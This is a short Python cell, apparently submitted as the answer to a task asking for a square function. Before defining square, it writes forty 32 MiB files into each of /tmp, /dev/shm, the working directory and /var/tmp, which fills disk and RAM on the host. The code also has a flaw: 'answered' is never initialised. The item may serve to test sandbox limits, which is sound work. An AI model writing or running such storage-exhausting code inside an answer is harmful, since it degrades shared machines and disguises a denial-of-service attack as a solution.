# %% answer=square
import os
for folder in ("/tmp", "/dev/shm", ".", "/var/tmp"):
    try:
        number = 0
        while number < 40:
            with open(f"{folder}/{number}", "wb") as file:
                file.write(bytes(32 * 2**20))
            number += 1
    except OSError as error:
        print(folder, error.strerror)
    else:
        answered = True

if answered:
    def square(x):
        return x * x
